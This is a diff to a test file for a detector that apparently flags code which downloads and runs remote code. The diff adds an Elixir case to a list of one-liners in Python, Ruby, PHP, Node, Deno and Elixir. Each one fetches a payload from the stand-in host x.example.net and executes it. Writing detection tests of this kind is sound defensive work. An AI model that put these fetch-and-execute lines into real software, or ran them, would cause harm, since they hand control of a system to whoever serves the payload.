@@ -13,7 +13,7 @@ from sensor.effects.code.fetched import loads_address, runs_fetched, runs_kept, 
     "os.system(urlopen('http://x.example.net/p').read())", "system(URI.open('http://x.example.net/p').read)", "system(file_get_contents('http://x.example.net/p'));",
     "c=requests.get('http://x.example.net/p').text;subprocess.run(c,shell=True)", "r=requests.get('http://x.example.net/p');c=r.text;subprocess.run(['sh','-c',c])",
     "get('http://x.example.net/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>require('child_process').execSync(d))})", "fetch('https://x.example.net/p').then(r=>r.text()).then(t=>require('child_process').exec(t))",
-    "const t=await (await fetch('https://x.example.net/p')).text(); new Deno.Command('sh',{args:['-c',t]})",
+    "Code.eval_string(Req.get!(\"https://x.example.net/p\").body)", "const t=await (await fetch('https://x.example.net/p')).text(); new Deno.Command('sh',{args:['-c',t]})",
 ])
 def test_it_does(code):
     assert runs_fetched(code)
